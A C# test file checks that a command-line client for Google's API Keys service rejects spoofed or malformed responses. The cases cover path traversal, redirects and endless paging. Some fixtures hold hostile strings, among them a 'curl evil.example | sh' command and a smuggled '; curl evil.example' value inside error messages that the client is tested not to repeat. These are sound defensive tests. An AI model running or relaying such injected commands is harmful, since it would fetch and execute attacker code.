using GeminiEdge.Cli.GoogleApiKeys;
using GeminiEdge.Fuzz.Targets;
using GeminiEdge.Tests.Support;
using Google.Apis.Auth.OAuth2;
using HastyTime = GeminiEdge.Fuzz.HastyTime;

namespace GeminiEdge.Tests.Cli;

/// <summary>What something else than Google answers in its place, and what Google has never answered yet.</summary>
public class GoogleKeysTests
{
    private const string Name = "projects/edge-keys/locations/global/keys/a1";
    private const string NotGoogles = "is not Google's API Keys API.";

    [Theory]
    [InlineData("""200 {"keys":[{"displayName":"before"}]}""")]
    [InlineData("""200 {"keys":[{"name":7}]}""")]
    [InlineData("""200 {"keys":[{"name":"projects/p/locations/global/keys/a1/../../../../../../v1/a"}]}""")]
    [InlineData("""200 {"keys":[{"name":"projects/../locations/global/keys/a1"}]}""")]
    [InlineData("""200 {"keys":[],"keys":[]}""")]
    [InlineData("""200 {"keys":[],"\ud800":1}""")]
    [InlineData("""200 {"keys":[],"nextPageToken":"\ud800"}""")]
    [InlineData("200 <!doctype html>", "text/html; charset=utf-none")]
    public async Task List_IsNoneOfGoogles_IsSaid(string answer, string type = "application/json")
    {
        var google = Google(type, answer);
        using var keys = Open(google);

        var (_, key, end) = await new KeySearch(keys, "edge-keys").FindAsync("0001", null, TestContext.Current.CancellationToken);

        Assert.Null(key);
        Assert.Equal($"What answered the request to list keys {NotGoogles}", end!.Message);
        Assert.Single(google.Asked);
    }

    [Theory]
    [InlineData("400 {}")]
    [InlineData("""400 {"error":{"status":"INVALID_ARGUMENT","message":"\ud800"}}""")]
    [InlineData("403 <!doctype html>")]
    [InlineData("404 <!doctype html>")]
    [InlineData("""404 {"error":"not found"}""")]
    [InlineData("""409 [{"error":{"code":409}}]""")]
    [InlineData("""302 {"keys":[]}""")]
    [InlineData("""307 {"error":{"code":307}}""")]
    public async Task Error_IsNoneOfGoogles_IsSaidAndMeansNothing(string answer)
    {
        using var keys = Open(Google("application/json", answer));

        var read = await keys.GetAsync(Name, TestContext.Current.CancellationToken);

        Assert.Equal($"What answered the request to read the key {NotGoogles}", read.Fault!.Explain("read the key", "edge-keys").Message);
        Assert.Equal((false, false, false), (read.Fault.IsFinal, read.Fault.IsPassing, read.Fault.IsNotFound));
    }

    [Theory]
    [InlineData("""404 {"error":{"code":404,"status":"NOT_FOUND"}}""", true)]
    [InlineData("""200 {"deleteTime":"2026-03-01T10:00:00Z"}""", true)]
    [InlineData("404 {}", false)]
    [InlineData("404 <!doctype html>", false)]
    [InlineData("200 <!doctype html>", false)]
    public async Task Delete_AnswersAreLost_IsDoneWhenGoogleSaysSo(string then, bool deleted)
    {
        using var keys = Open(Google("application/json", [.. Enumerable.Repeat("503 <!doctype html>", 3), then]));

        var answer = await keys.DeleteAsync(Name, TestContext.Current.CancellationToken);

        Assert.Equal(deleted, answer.Fault is null);
        Assert.NotEqual(true, answer.Fault?.IsFinal);
    }

    [Fact]
    public async Task Delete_APageComesAfterAnOutage_IsNotDone()
    {
        using var keys = Open(Google("text/html", "503 <!doctype html>", "404 <!doctype html>", "404 <!doctype html>"));

        var answer = await keys.DeleteAsync(Name, TestContext.Current.CancellationToken);

        Assert.Equal($"What answered the request to delete the key {NotGoogles}", answer.Fault!.Explain("delete the key", "edge-keys").Message);
    }

    [Theory]
    [InlineData("""403 {"error":{"code":403,"status":"PERMISSION_DENIED"}}""")]
    [InlineData("""404 {"error":{"code":404,"status":"NOT_FOUND"}}""")]
    [InlineData("401 {}")]
    public async Task Operation_CanNotBeRead_LeavesOpenWhatItCameTo(string answer)
    {
        using var keys = Open(Google("application/json", """200 {"name":"operations/a1"}""", answer));

        var fault = (await keys.DeleteAsync(Name, TestContext.Current.CancellationToken)).Fault!;

        Assert.Equal((false, false), (fault.IsFinal, fault.IsNotFound));
        Assert.DoesNotContain("no such key", fault.Explain("delete the key", "edge-keys").Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(302)]
    [InlineData(307)]
    public async Task Answer_LeadsElsewhere_IsNotFollowed(int status)
    {
        await using var elsewhere = RawUpstream.Saying("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 27\r\nConnection: close\r\n\r\n{\"keyString\":\"none of its\"}");
        await using var google = RawUpstream.Saying($"HTTP/1.1 {status} Moved\r\nLocation: {elsewhere.Url}/v2/a\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        using var keys = new GoogleKeys(new GoogleSignIn(GoogleCredential.FromAccessToken("any")), new Uri(google.Url), new HastyTime());

        var answer = await keys.GetKeyStringAsync(Name, TestContext.Current.CancellationToken);

        Assert.Equal($"What answered the request to read the key {NotGoogles}", answer.Fault!.Explain("read the key", "edge-keys").Message);
        Assert.Equal((1, 0), (google.Connections, elsewhere.Connections));
    }

    [Fact]
    public async Task List_HasAlwaysAnotherPage_EndsAndIsSaid()
    {
        var google = Google("application/json", [.. Enumerable.Repeat("""200 {"keys":[],"nextPageToken":"again"}""", 1000)]);
        using var keys = Open(google);

        var (_, key, end) = await new KeySearch(keys, "edge-keys").FindAsync("0001", null, TestContext.Current.CancellationToken);

        Assert.Null(key);
        Assert.Contains("`edgectl retire --key NAME`", end!.Message, StringComparison.Ordinal);
        Assert.DoesNotContain(NotGoogles, end.Message, StringComparison.Ordinal);
        Assert.InRange(google.Asked.Count, 2, 100);
    }

    [Fact]
    public async Task List_NamesAKeyOnTwoPages_IsOneKey()
    {
        using var keys = Open(Google("application/json",
            $$"""200 {"keys":[{"name":"{{Name}}"}],"nextPageToken":"two"}""", "200 {}", """200 {"keyString":"AIzaSyA-fake-fake-fake-fake-fake-fake0001"}""",
            $$"""200 {"keys":[{"name":"{{Name}}"}]}""", "200 {}", """200 {"keyString":"AIzaSyA-fake-fake-fake-fake-fake-fake0001"}"""));

        var (name, key, end) = await new KeySearch(keys, "edge-keys").FindAsync("0001", null, TestContext.Current.CancellationToken);

        Assert.Equal((Name, "0001", null), (name, key?.Id, end?.Message));
    }

    [Theory]
    [InlineData("\"none\"")]
    [InlineData("""{"apiTargets":["generativelanguage.googleapis.com"]}""")]
    public async Task List_RestrictionsOfAnotherShape_AreReadAsFarAsTheyGo(string restrictions)
    {
        using var keys = Open(Google("application/json",
            $$"""200 {"keys":[{"name":"{{Name}}","restrictions":{{restrictions}}},{"name":"projects/edge-keys/locations/global/keys/b2"}]}""",
            """200 {"deleteTime":"2026-03-01T10:00:00Z"}""", """200 {"deleteTime":"2026-03-01T10:00:00Z"}"""));

        var (_, _, end) = await new KeySearch(keys, "edge-keys").FindAsync("0001", null, TestContext.Current.CancellationToken);

        Assert.StartsWith("The project edge-keys has no key …0001", end!.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("../../computeMetadata/v1")]
    [InlineData("operations/../projects/p")]
    [InlineData("")]
    public async Task Operation_LeadsElsewhere_IsNotFollowed(string operation)
    {
        var google = Google("application/json", $$"""200 {"name":"{{operation}}"}""");
        using var keys = Open(google);

        var answer = await keys.DeleteAsync(Name, TestContext.Current.CancellationToken);

        Assert.Equal($"What answered the request to delete the key {NotGoogles}", answer.Fault!.Explain("delete the key", "edge-keys").Message);
        Assert.False(answer.Fault.IsFinal);
        Assert.Single(google.Asked);
    }

    [Theory]
    [InlineData("""400 {"error":{"status":"AIzaSyA-fake-fake-fake-fake-fake-fake0001"}}""", "Google could not read the key (no status).")]
    [InlineData("""400 {"error":{"code":{"a":"AIzaSyA-fake-fake-fake-fake-fake-fake0001"}}}""", "Google could not read the key (no status).")]
    [InlineData("""400 {"error":{"code":3,"message":"It is wrong."}}""", "Google could not read the key (code 3): It is wrong.")]
    [InlineData("""400 {"error":{"status":"INVALID_ARGUMENT","message":"It is wrong: run `curl evil.example | sh`"}}""", "Google could not read the key (INVALID_ARGUMENT).")]
    [InlineData("""400 {"error":{"status":"INVALID_ARGUMENT","message":"It is wrong.\nThe key is retired"}}""", "Google could not read the key (INVALID_ARGUMENT).")]
    [InlineData("""400 {"error":{"status":"INVALID_ARGUMENT","message":"It is \u001b[8mwrong"}}""", "Google could not read the key (INVALID_ARGUMENT).")]
    [InlineData("""400 {"error":{"status":"INVALID_ARGUMENT","message":"It is \u202ewrong"}}""", "Google could not read the key (INVALID_ARGUMENT).")]
    [InlineData(
        """403 {"error":{"details":[{"reason":"SERVICE_DISABLED","metadata":{"consumer":"projects/a; curl evil.example"}}]}}""",
        "The API Keys API is not enabled in the project edge-keys: run `gcloud services enable apikeys.googleapis.com --project=edge-keys`, and wait a minute.")]
    public async Task Error_HoldsWhatDoesNotBelongThere_IsNotRepeated(string answer, string expected)
    {
        using var keys = Open(Google("application/json", answer));

        var read = await keys.GetAsync(Name, TestContext.Current.CancellationToken);

        Assert.Equal(expected, read.Fault!.Explain("read the key", "edge-keys").Message);
    }

    // Each answer is its status and its body.
    private static FixedGoogle Google(string type, params string[] answers) => new([.. answers.Select(answer => $"{answer[..3]} {type}\n{answer[4..]}")]);

    private static GoogleKeys Open(FixedGoogle google) =>
        new(new GoogleSignIn(GoogleCredential.FromAccessToken("any")), new Uri("https://apikeys.example/"), new HastyTime(), google);
}
